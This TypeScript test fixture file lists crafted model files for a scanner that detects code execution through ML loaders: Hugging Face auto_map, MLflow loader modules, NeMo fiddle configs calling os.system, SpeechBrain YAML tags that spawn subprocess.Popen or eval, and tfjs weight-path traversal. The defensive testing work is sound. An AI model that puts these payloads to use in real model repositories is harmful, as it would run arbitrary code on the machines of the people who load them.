import type { UnseenCase } from './unseen-attacks.test.js';

const json = (v: unknown): string => `${JSON.stringify(v, null, 2)}\n`;
const weights = Buffer.concat([Buffer.from([2, 0, 0, 0, 0, 0, 0, 0]), Buffer.from('{}')]);

/**
 * Code that sits beside the weights and that the loader imports: transformers' `auto_map` / `custom_pipelines`
 * (`get_class_from_dynamic_module`, only with trust_remote_code=True) and MLflow's `python_function` flavour
 * (`mlflow.pyfunc.load_model` imports `loader_module`, no opt-in).
 */
export const REPO_CODE_CASES: readonly UnseenCase[] = [
  {
    name: 'HF config auto_map to the folder’s own modeling file',
    loader: 'transformers AutoModel.from_pretrained → get_class_from_dynamic_module (trust_remote_code=True)',
    files: {
      'm/config.json': json({
        model_type: 'x',
        auto_map: { AutoConfig: 'configuration_x.XConfig', AutoModel: 'modeling_x.XModel' },
      }),
      'm/modeling_x.py': 'import os\n',
      'm/model.safetensors': weights,
    },
    want: ['CPI115:warning'],
  },
  {
    name: 'HF config auto_map to another repository’s code',
    loader: 'transformers get_class_from_dynamic_module splits repo--module.Class',
    files: { 'm/config.json': json({ model_type: 'x', auto_map: { AutoModel: 'attacker/code--modeling_x.XModel' } }) },
    want: ['CPI115:error'],
  },
  {
    name: 'tokenizer_config auto_map as a [slow, fast] pair with null',
    loader: 'transformers AutoTokenizer.from_pretrained → get_class_from_dynamic_module',
    files: { 'm/tokenizer_config.json': json({ auto_map: { AutoTokenizer: ['tokenization_x.XTokenizer', null] } }) },
    want: ['CPI115:warning'],
  },
  {
    name: 'HF config custom_pipelines impl',
    loader: 'transformers.pipeline → custom_tasks impl → get_class_from_dynamic_module',
    files: {
      'm/config.json': json({ custom_pipelines: { 'x-task': { impl: 'pipe_x.XPipeline', pt: ['AutoModel'] } } }),
    },
    want: ['CPI115:warning'],
  },
  {
    name: 'HF config without auto_map (a library model class)',
    loader: 'transformers CONFIG_MAPPING[model_type]: no repository code',
    files: { 'm/config.json': json({ model_type: 'bert', architectures: ['BertModel'], hidden_size: 8 }) },
    want: [],
  },
  {
    name: 'unrelated config.json (not a model)',
    loader: 'no loader reads it as a model',
    files: { 'config.json': json({ port: 8080, auto_map: 'not a map' }) },
    want: [],
  },
  {
    name: 'sentence-transformers modules.json with a module from the folder',
    loader: 'SentenceTransformer._load_module_class_from_ref (local folder: get_class_from_dynamic_module, no opt-in)',
    files: {
      'st/modules.json': json([
        { idx: 0, name: '0', path: '', type: 'sentence_transformers.models.Transformer' },
        { idx: 1, name: '1', path: '1_Pooling', type: 'custom_pooling.EvilPooling' },
      ]),
      'st/custom_pooling.py': 'import os\n',
    },
    want: ['CPI115:error'],
  },
  {
    name: 'sentence-transformers modules.json as the library writes it',
    loader: 'SentenceTransformer._load_module_class_from_ref imports sentence_transformers.* only',
    files: {
      'st/modules.json': json([
        { idx: 0, name: '0', path: '', type: 'sentence_transformers.models.Transformer' },
        { idx: 1, name: '1', path: '1_Pooling', type: 'sentence_transformers.models.Pooling' },
        { idx: 2, name: '2', path: '2_Normalize', type: 'sentence_transformers.models.Normalize' },
      ]),
    },
    want: [],
  },
  {
    name: 'config.json with comments (JSONC of another tool)',
    loader: 'PretrainedConfig._dict_from_json_file: json.loads raises, nothing is imported',
    files: { 'config.json': '{\n  // editor settings\n  "auto_map": { "AutoModel": "x.Y" }\n}\n' },
    want: [],
  },
  {
    name: 'MLflow MLmodel with a custom loader_module and code folder',
    loader: 'mlflow.pyfunc.load_model → importlib.import_module(loader_module)._load_pyfunc',
    files: {
      'm/MLmodel':
        'artifact_path: model\nflavors:\n  python_function:\n    loader_module: evil_loader\n    code: code\n    data: data\n',
      'm/code/evil_loader.py': 'import os\n',
    },
    want: ['CPI116:error'],
  },
  {
    name: 'MLflow MLmodel of models-from-code',
    loader: 'mlflow.pyfunc.model._load_pyfunc runs model_code_path',
    files: {
      'm/MLmodel':
        'flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n    model_code_path: model_code.py\n    python_version: 3.11.0\n',
    },
    want: ['CPI116:error'],
  },
  {
    name: 'MLflow sklearn model with a code folder beside MLflow’s loader',
    loader: 'mlflow.pyfunc._add_code_from_conf_to_system_path',
    files: {
      'm/MLmodel':
        'flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    model_path: model.pkl\n    code: code\n  sklearn:\n    pickled_model: model.pkl\n',
    },
    want: ['CPI116:warning'],
  },
  {
    name: 'MLflow langchain model whose model_code_path sits only in the langchain flavour',
    loader: 'mlflow.langchain._load_model_from_local_fs: flavor_conf[MODEL_CODE_PATH] when python_function has none',
    files: {
      'm/MLmodel':
        'flavors:\n  langchain:\n    langchain_version: 0.1.0\n    model_code_path: chain.py\n  python_function:\n    loader_module: mlflow.langchain\n    python_version: 3.11.0\n',
      'm/chain.py': 'import os\n',
    },
    want: ['CPI116:error'],
  },
  {
    name: 'MLmodel with no python_function flavour and a langchain model_code_path',
    loader: 'mlflow.langchain.load_model → _load_model_from_local_fs',
    files: { 'm/MLmodel': 'flavors:\n  langchain:\n    model_code_path: chain.py\n' },
    want: ['CPI116:error'],
  },
  {
    name: 'MLflow pytorch model with a code folder in the pytorch flavour',
    loader: 'mlflow.pytorch.load_model → _add_code_from_conf_to_system_path(local_model_path, pytorch_conf)',
    files: {
      'm/MLmodel':
        'flavors:\n  python_function:\n    loader_module: mlflow.pytorch\n    data: data\n  pytorch:\n    code: code\n    model_data: data\n    pytorch_version: 2.1.0\n',
    },
    want: ['CPI116:warning'],
  },
  {
    name: 'NeMo 2 context/io.json whose fiddle Config calls os.system',
    loader: 'nemo.lightning.io.load_context → io.mixin.load → fiddle Deserialization (import_symbol) → fdl.build',
    files: {
      'ckpt/context/io.json':
        '{\n  "root": {\n    "type": "ref",\n    "key": "config_1"\n  },\n  "objects": {\n    "config_1": {\n      "type": {\n        "type": "pyref",\n        "module": "fiddle._src.config",\n        "name": "Config"\n      },\n      "items": [\n        [\n          "Attr(name=\'command\')",\n          "id"\n        ]\n      ],\n      "metadata": {\n        "type": {\n          "type": "pyref",\n          "module": "fiddle._src.config",\n          "name": "BuildableTraverserMetadata"\n        },\n        "items": [\n          [\n            "GetAttrKey(name=\'fn_or_cls\')",\n            {\n              "type": "pyref",\n              "module": "os",\n              "name": "system"\n            }\n          ],\n          [\n            "GetAttrKey(name=\'argument_names\')",\n            [\n              "command"\n            ]\n          ],\n          [\n            "GetAttrKey(name=\'argument_tags\')",\n            {}\n          ]\n        ],\n        "metadata": {\n          "type": {\n            "type": "pyref",\n            "module": "fiddle._src.config",\n            "name": "BuildableTraverserMetadata"\n          },\n          "items": [],\n          "metadata": null\n        }\n      },\n      "paths": [\n        "<root>.model"\n      ]\n    }\n  },\n  "refcounts": {\n    "config_1": 1\n  },\n  "version": "0.0.1"\n}',
    },
    want: ['CPI122:error'],
  },
  {
    name: 'NeMo 2 context/io.json calling torch.hub.load (trusted by NeMo’s SafePyrefPolicy: torch.*)',
    loader: 'nemo.lightning.io.deserialize.SafePyrefPolicy.allows_import trusts torch; fdl.build calls it',
    files: {
      'ckpt/context/io.json':
        '{\n  "root": {\n    "type": "ref",\n    "key": "config_1"\n  },\n  "objects": {\n    "config_1": {\n      "type": {\n        "type": "pyref",\n        "module": "fiddle._src.config",\n        "name": "Config"\n      },\n      "items": [\n        [\n          "Attr(name=\'repo_or_dir\')",\n          "evil/repo"\n        ],\n        [\n          "Attr(name=\'model\')",\n          "m"\n        ]\n      ],\n      "metadata": {\n        "type": {\n          "type": "pyref",\n          "module": "fiddle._src.config",\n          "name": "BuildableTraverserMetadata"\n        },\n        "items": [\n          [\n            "GetAttrKey(name=\'fn_or_cls\')",\n            {\n              "type": "pyref",\n              "module": "torch.hub",\n              "name": "load"\n            }\n          ],\n          [\n            "GetAttrKey(name=\'argument_names\')",\n            [\n              "repo_or_dir",\n              "model"\n            ]\n          ],\n          [\n            "GetAttrKey(name=\'argument_tags\')",\n            {}\n          ]\n        ],\n        "metadata": {\n          "type": {\n            "type": "pyref",\n            "module": "fiddle._src.config",\n            "name": "BuildableTraverserMetadata"\n          },\n          "items": [],\n          "metadata": null\n        }\n      },\n      "paths": [\n        "<root>.model"\n      ]\n    }\n  },\n  "refcounts": {\n    "config_1": 1\n  },\n  "version": "0.0.1"\n}',
    },
    want: ['CPI122:error'],
  },
  {
    name: 'NeMo 2 context/io.json naming a module outside NeMo’s libraries',
    loader: 'io.mixin.load: pydoc.locate and fiddle import_symbol import it; fdl.build calls it',
    files: {
      'ckpt/context/io.json':
        '{\n  "root": {\n    "type": "ref",\n    "key": "config_1"\n  },\n  "objects": {\n    "config_1": {\n      "type": {\n        "type": "pyref",\n        "module": "fiddle._src.config",\n        "name": "Config"\n      },\n      "items": [\n        [\n          "Attr(name=\'x\')",\n          1\n        ]\n      ],\n      "metadata": {\n        "type": {\n          "type": "pyref",\n          "module": "fiddle._src.config",\n          "name": "BuildableTraverserMetadata"\n        },\n        "items": [\n          [\n            "GetAttrKey(name=\'fn_or_cls\')",\n            {\n              "type": "pyref",\n              "module": "evilpkg.model",\n              "name": "Build"\n            }\n          ],\n          [\n            "GetAttrKey(name=\'argument_names\')",\n            [\n              "x"\n            ]\n          ],\n          [\n            "GetAttrKey(name=\'argument_tags\')",\n            {}\n          ]\n        ],\n        "metadata": {\n          "type": {\n            "type": "pyref",\n            "module": "fiddle._src.config",\n            "name": "BuildableTraverserMetadata"\n          },\n          "items": [],\n          "metadata": null\n        }\n      },\n      "paths": [\n        "<root>.model"\n      ]\n    }\n  },\n  "refcounts": {\n    "config_1": 1\n  },\n  "version": "0.0.1"\n}',
    },
    want: ['CPI122:warning'],
  },
  {
    name: 'NeMo 2 context/io.json of a Llama model',
    loader: 'io.mixin.load builds nemo.collections.llm LlamaModel',
    files: {
      'ckpt/context/io.json':
        '{\n  "root": {\n    "type": "ref",\n    "key": "config_1"\n  },\n  "objects": {\n    "config_1": {\n      "type": {\n        "type": "pyref",\n        "module": "fiddle._src.config",\n        "name": "Config"\n      },\n      "items": [\n        [\n          "Attr(name=\'config\')",\n          {\n            "type": "ref",\n            "key": "x"\n          }\n        ]\n      ],\n      "metadata": {\n        "type": {\n          "type": "pyref",\n          "module": "fiddle._src.config",\n          "name": "BuildableTraverserMetadata"\n        },\n        "items": [\n          [\n            "GetAttrKey(name=\'fn_or_cls\')",\n            {\n              "type": "pyref",\n              "module": "nemo.collections.llm.gpt.model.llama",\n              "name": "LlamaModel"\n            }\n          ],\n          [\n            "GetAttrKey(name=\'argument_names\')",\n            [\n              "config"\n            ]\n          ],\n          [\n            "GetAttrKey(name=\'argument_tags\')",\n            {}\n          ]\n        ],\n        "metadata": {\n          "type": {\n            "type": "pyref",\n            "module": "fiddle._src.config",\n            "name": "BuildableTraverserMetadata"\n          },\n          "items": [],\n          "metadata": null\n        }\n      },\n      "paths": [\n        "<root>.model"\n      ]\n    }\n  },\n  "refcounts": {\n    "config_1": 1\n  },\n  "version": "0.0.1"\n}',
    },
    want: [],
  },
  {
    name: 'NeMo 2 context/io.json spelling pyref with a JSON escape',
    loader: 'io.mixin.load: json.loads decodes \\u0079 before fiddle compares the type',
    files: {
      'ckpt/context/io.json':
        '{"root": {"type": "ref", "key": "c"}, "objects": {"c": {"type": {"type": "pyref", "module": "fiddle._src.config", "name": "Config"}, "items": [], "metadata": {"type": "p\\u0079ref", "module": "os", "name": "system"}}}}',
    },
    want: ['CPI122:error'],
  },
  {
    name: 'a context/io.json of some other tool, not JSON',
    loader: 'NeMo’s json.load would refuse it before importing anything',
    files: { 'app/context/io.json': '// inputs\n{ reads: [a, b] }\n' },
    want: [],
  },
  {
    name: 'model_config.yaml of an extracted .nemo calling os.system',
    loader:
      'SaveRestoreConnector.load_config_and_state_dict reads <model_extracted_dir>/model_config.yaml (restore path a folder)',
    files: {
      'm/model_config.yaml':
        'target: nemo.collections.nlp.models.language_modeling.megatron_gpt_model.MegatronGPTModel\nx:\n  _target_: os.system\n  command: id\n',
    },
    want: ['CPI122:error'],
  },
  {
    name: 'model_config.yaml of a Hydra project naming its own classes',
    loader: 'hydra.utils.instantiate of the project’s own code (not a model file)',
    files: { 'conf/model_config.yaml': 'model:\n  _target_: myproj.models.Net\n  hidden: 128\n' },
    want: [],
  },
  {
    name: 'SpeechBrain hyperparams.yaml instantiating subprocess.Popen',
    loader:
      'speechbrain from_hparams → hyperpyyaml load_hyperpyyaml: !new: → _construct_object (pydoc.locate, then call)',
    files: { 'm/hyperparams.yaml': 'sample_rate: 16000\nrun: !new:subprocess.Popen\n  - [sh, -c, id]\n' },
    want: ['CPI129:error'],
  },
  {
    name: 'SpeechBrain hyperparams.yaml calling eval through !apply: (pydoc.locate falls back to builtins)',
    loader: 'hyperpyyaml _apply_function',
    files: { 'm/hyperparams.yaml': 'x: !apply:eval ["1"]\n' },
    want: ['CPI129:error'],
  },
  {
    name: 'hyperparams.yaml with a PyYAML python tag behind a %TAG handle',
    loader: 'load_hyperpyyaml loads with yaml.Loader: UnsafeConstructor construct_python_object_apply',
    files: { 'm/hyperparams.yaml': '%TAG !p! tag:yaml.org,2002:python/object/apply:\n---\nx: !p!os.system [id]\n' },
    want: ['CPI129:error'],
  },
  {
    name: 'hyperparams.yaml naming a class and a module outside SpeechBrain’s libraries',
    loader: 'hyperpyyaml _construct_object / _construct_module import them with pydoc.locate',
    files: { 'm/hyperparams.yaml': 'x: !new:evilpkg.Thing\n  a: 1\nm: !module:evilpkg2\n' },
    want: ['CPI129:warning'],
  },
  {
    name: 'hyperparams.yaml including another YAML file',
    loader: 'hyperpyyaml _walk_tree_and_resolve: !include: reads the file beside it; its tags are built too',
    files: {
      'm/hyperparams.yaml': 'model: !include:parts/model.yaml\n',
      'm/parts/model.yaml': 'x: !apply:os.system [id]\n',
    },
    want: ['CPI129:warning'],
  },
  {
    name: 'SpeechBrain ECAPA hyperparams.yaml as SpeechBrain publishes it',
    loader: 'load_hyperpyyaml builds speechbrain lobes, torch optimisers, a seed',
    files: {
      'm/hyperparams.yaml':
        '# ############################################################################\n# Model: ECAPA big for Speaker verification\n# ############################################################################\nsample_rate: 16000\nn_mels: 80\nleft_frames: 0\ndeltas: False\n\ncompute_features: !new:speechbrain.lobes.features.Fbank\n    n_mels: !ref <n_mels>\n    left_frames: !ref <left_frames>\n    deltas: !ref <deltas>\n\nmean_var_norm: !new:speechbrain.processing.features.InputNormalization\n    norm_type: sentence\n    std_norm: False\n\nembedding_model: !new:speechbrain.lobes.models.ECAPA_TDNN.ECAPA_TDNN\n    input_size: !ref <n_mels>\n    channels: [1024, 1024, 1024, 1024, 3072]\n    kernel_sizes: [5, 3, 3, 3, 1]\n    dilations: [1, 2, 3, 4, 1]\n    attention_channels: 128\n    lin_neurons: 192\n\nclassifier: !new:speechbrain.lobes.models.ECAPA_TDNN.Classifier\n    input_size: 192\n    out_neurons: 7205\n\nmean_var_norm_emb: !new:speechbrain.processing.features.InputNormalization\n    norm_type: global\n    std_norm: False\n\nmodules:\n    compute_features: !ref <compute_features>\n    mean_var_norm: !ref <mean_var_norm>\n    embedding_model: !ref <embedding_model>\n    mean_var_norm_emb: !ref <mean_var_norm_emb>\n    classifier: !ref <classifier>\n\nlabel_encoder: !new:speechbrain.dataio.encoder.CategoricalEncoder\n\nopt_class: !name:torch.optim.Adam\n    lr: 0.001\nseed: !apply:torch.manual_seed [1234]\nshape: (3, 4)\nblocks: !new:torch.nn.ModuleList\n    - [!new:collections.OrderedDict {}]\n\npretrainer: !new:speechbrain.utils.parameter_transfer.Pretrainer\n    loadables:\n        embedding_model: !ref <embedding_model>\n        mean_var_norm_emb: !ref <mean_var_norm_emb>\n        classifier: !ref <classifier>\n        label_encoder: !ref <label_encoder>\n    paths:\n        embedding_model: !ref <pretrained_path>/embedding_model.ckpt\n',
    },
    want: [],
  },
  {
    name: 'MLflow sklearn model as MLflow logs it',
    loader: 'mlflow.pyfunc.load_model → mlflow.sklearn._load_pyfunc',
    files: {
      'm/MLmodel':
        'flavors:\n  python_function:\n    env:\n      conda: conda.yaml\n      virtualenv: python_env.yaml\n    loader_module: mlflow.sklearn\n    model_path: model.pkl\n    predict_fn: predict\n    python_version: 3.11.0\n  sklearn:\n    code: null\n    pickled_model: model.pkl\n    serialization_format: cloudpickle\n    sklearn_version: 1.2.1\nmlflow_version: 2.9.2\n',
    },
    want: [],
  },
];

const manifest = (paths: readonly string[]): string =>
  json({ format: 'layers-model', modelTopology: {}, weightsManifest: [{ paths, weights: [] }] });

/** tfjs fetches `pathPrefix + path` (`io.http` `loadWeights`): the WHATWG URL parser decides where that goes. */
export const TFJS_PATH_CASES: readonly UnseenCase[] = [
  {
    name: 'tfjs weights path climbing out with %2e%2e',
    loader: 'tfjs io.http loadWeights → fetch (URL parser: %2e%2e is a .. segment)',
    files: { 'm/model.json': manifest(['%2e%2e/%2E%2e/secrets/key.bin']) },
    want: ['CPI076:error'],
  },
  {
    name: 'tfjs weights path with a tab inside ..',
    loader: 'WHATWG URL parser strips tabs and newlines',
    files: { 'm/model.json': manifest(['.\t./.\n./x.bin']) },
    want: ['CPI076:error'],
  },
  {
    name: 'tfjs weights path as a data: URL',
    loader: 'fetch of a scheme-qualified URL ignores the model folder',
    files: { 'm/model.json': manifest(['data:application/octet-stream;base64,AAAA']) },
    want: ['CPI076:error'],
  },
  {
    name: 'tfjs weights beside the manifest, percent-encoded name',
    loader: 'tfjs io.http loadWeights',
    files: { 'm/model.json': manifest(['group1-shard1of1.bin', 'shard%20two.bin']) },
    want: [],
  },
];
